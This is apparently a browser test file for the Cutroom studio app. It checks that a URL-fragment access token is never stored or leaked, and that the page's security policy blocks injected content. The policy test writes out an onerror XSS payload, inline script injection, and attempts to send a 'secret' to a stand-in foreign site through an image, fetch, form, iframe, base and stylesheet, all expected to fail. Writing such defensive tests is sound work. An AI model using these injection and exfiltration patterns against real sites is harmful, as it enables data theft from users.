import { readFile } from 'node:fs/promises'
import { join } from 'node:path'
import { describe, expect, it } from 'vitest'
import { startForeignSite } from '../support/browser/foreign-site.ts'
import { needsBrowser, openPage } from '../support/browser/open-page.ts'
import { startStudio } from '../support/browser/start-studio.ts'
import { testStudio } from '../test-studio.ts'

needsBrowser()

describe('the token', () => {
  it('lets a page in from behind the "#" alone, and stays nowhere', async () => {
    const studio = await testStudio().withTracks({ Host: 10 })
    const { url, token, address } = await startStudio(studio.folder)
    const closed = 'This page is not let in yet'
    const { page: stranger, context: strange } = await openPage('about:blank')
    for (const path of ['/', `/?token=${token}`, '/#token=wrong-wrong', '/#token=', `/#${token}`, `/?a#b`]) {
      // From elsewhere, so that it is loaded anew and not only given what is behind the "#".
      await stranger.goto('about:blank')
      await stranger.goto(`${url}${path}`)
      await stranger.getByRole('heading', { name: closed }).waitFor()
      expect(stranger.url()).toBe(`${url}/`)
      expect(await stranger.getByRole('alert').textContent()).toContain('cutroom studio')
      expect(await strange.cookies()).toEqual([])
    }
    await stranger.close()
    const { page, context } = await openPage(address)
    await page.getByText('saved · revision').waitFor()
    const kept = await page.evaluate(() => {
      const { navigation } = globalThis as unknown as { navigation: { entries(): { url: string }[] } }
      return JSON.stringify([
        location.href,
        history.state,
        navigation.entries().map((entry) => entry.url),
        Object.entries(localStorage),
        Object.entries(sessionStorage),
        document.cookie,
        document.documentElement.outerHTML,
      ])
    })
    expect(kept).not.toContain(token)
    const [cookie] = await context.cookies()
    expect(cookie).toMatchObject({ httpOnly: true, sameSite: 'Strict', path: '/', domain: '127.0.0.1' })
    expect(cookie?.value).not.toContain(token)
    // The same address again, in this browser and in another one: it is the life of the server that ends a token.
    for (const given of [{ context }, {}]) {
      const { page: other } = await openPage(address, given)
      await other.getByText('saved · revision').waitFor()
    }
    // A page that is open already is given an address by hand: the browser only changes what is behind the "#".
    await page.evaluate((to) => void (location.href = to), `${url}/#token=wrong-wrong`)
    await page.waitForURL(`${url}/`)
    await page.getByText('saved · revision').waitFor()
    const site = await startForeignSite()
    await page.goto(site.at('127.0.0.1'))
    expect(site.seen[0]?.headers.referer).toBeUndefined()
    expect(await page.evaluate(() => document.referrer)).toBe('')
    expect(await readFile(join(studio.folder, 'server.log'), 'utf8')).not.toContain(token)
  })

  it('of an earlier life counts no more, and neither does a cookie of another port', async () => {
    const studio = await testStudio().withTracks({ Host: 10 })
    const first = await startStudio(studio.folder, { token: 'the-first-of-two' })
    const { page, context } = await openPage(first.address)
    await page.getByText('saved · revision').waitFor()
    const port = Number(new URL(first.url).port)
    const [cookie] = await context.cookies()
    await first.stop('SIGKILL')
    const second = await startStudio(studio.folder, { port, token: 'the-second-of-two' })
    await page.getByRole('heading', { name: 'Cutroom was started anew' }).waitFor()
    await page.goto(`${first.url}/#token=the-first-of-two`)
    await page.getByRole('heading', { name: 'Cutroom was started anew' }).waitFor()
    // The new address in the same tab lets it in again, without a reload.
    await page.evaluate((to) => void (location.href = to), second.address)
    await page.getByText('saved · revision').waitFor()
    expect(page.url()).toBe(`${second.url}/`)
    const [given] = await context.cookies()
    const elsewhere = await startStudio(studio.folder, { token: 'the-second-of-two' })
    const { page: other, context: another } = await openPage('about:blank')
    const at = Number(new URL(elsewhere.url).port)
    await another.addCookies([
      {
        ...given,
        name: `cutroom-${port}`,
        value: given?.value ?? '',
        url: elsewhere.url,
        path: undefined,
        domain: undefined,
      },
      { name: `cutroom-${at}`, value: cookie?.value ?? '', url: elsewhere.url },
    ] as Parameters<typeof another.addCookies>[0])
    await other.goto(elsewhere.url)
    await other.getByRole('heading', { name: 'This page is not let in yet' }).waitFor()
  })
})

describe('what the page may do', () => {
  it('is held by its policy, should something of another get into it', async () => {
    const studio = await testStudio().withTracks({ Host: 10 })
    const { address } = await startStudio(studio.folder)
    const site = await startForeignSite()
    const { page, faults } = await openPage(address, { mayFail: true })
    await page.getByText('saved · revision').waitFor()
    expect(faults).toEqual([])
    const came = await page.evaluate(async (foreign) => {
      const stopped: Record<string, boolean> = {}
      const isStopped = (work: () => unknown): boolean => {
        try {
          work()
          return false
        } catch {
          return true
        }
      }
      Object.assign(globalThis, { ran: [] })
      const inline = document.createElement('script')
      stopped['an inline script as text'] = isStopped(() => (inline.textContent = 'globalThis.ran.push("inline")'))
      inline.append('globalThis.ran.push("inline")')
      document.head.append(inline)
      stopped['innerHTML'] = isStopped(() => (document.body.innerHTML = '<img src=x onerror="globalThis.ran.push(1)">'))
      const evaluate = Reflect.get(globalThis, 'eval') as (code: string) => unknown
      // What a test evaluates may do more than the page; what runs later is the page's again.
      stopped['eval'] = await new Promise<boolean>((resolve) =>
        setTimeout(() => resolve(isStopped(() => evaluate('globalThis.ran.push("eval")')))),
      )
      stopped['a policy of its own'] = isStopped(() =>
        (
          globalThis as unknown as { trustedTypes: { createPolicy(name: string, rules: object): unknown } }
        ).trustedTypes.createPolicy('mine', {}),
      )
      stopped['a worker of another site'] = isStopped(() => new Worker(`${foreign}x.js`))
      const violated = new Set<string>()
      document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => violated.add(effectiveDirective))
      const image = new Image()
      const failed = new Promise<void>((resolve) => image.addEventListener('error', () => resolve()))
      image.src = `${foreign}pixel.png?secret`
      document.body.append(image)
      await failed
      await fetch(`${foreign}out`, { method: 'POST', body: 'secret', mode: 'no-cors' }).catch(() => undefined)
      const form = Object.assign(document.createElement('form'), { action: `${foreign}form`, method: 'post' })
      const frame = Object.assign(document.createElement('iframe'), { src: `${foreign}frame` })
      const base = Object.assign(document.createElement('base'), { href: foreign })
      document.body.append(form, frame)
      document.head.append(base)
      form.submit()
      const link = Object.assign(document.createElement('link'), { rel: 'stylesheet', href: `${foreign}style.css` })
      const refused = new Promise<void>((resolve) => link.addEventListener('error', () => resolve()))
      document.head.append(link)
      await refused
      const isAll = (): boolean => ['form-action', 'frame-src'].every((directive) => violated.has(directive))
      for (let at = 0; at < 200 && !isAll(); at++) await new Promise((resolve) => setTimeout(resolve, 10))
      return { stopped, violated: [...violated].sort(), ran: (globalThis as unknown as { ran: unknown[] }).ran }
    }, site.at('127.0.0.1'))
    expect(Object.entries(came.stopped).filter(([, isStopped]) => !isStopped)).toEqual([])
    expect(came.violated).toEqual(
      expect.arrayContaining(['base-uri', 'connect-src', 'form-action', 'frame-src', 'img-src', 'style-src-elem']),
    )
    expect(came.ran).toEqual([])
    expect(site.seen).toEqual([])
    // The page itself is still there.
    expect(await page.evaluate(() => document.body.innerText)).toContain('saved · revision')
  })
})
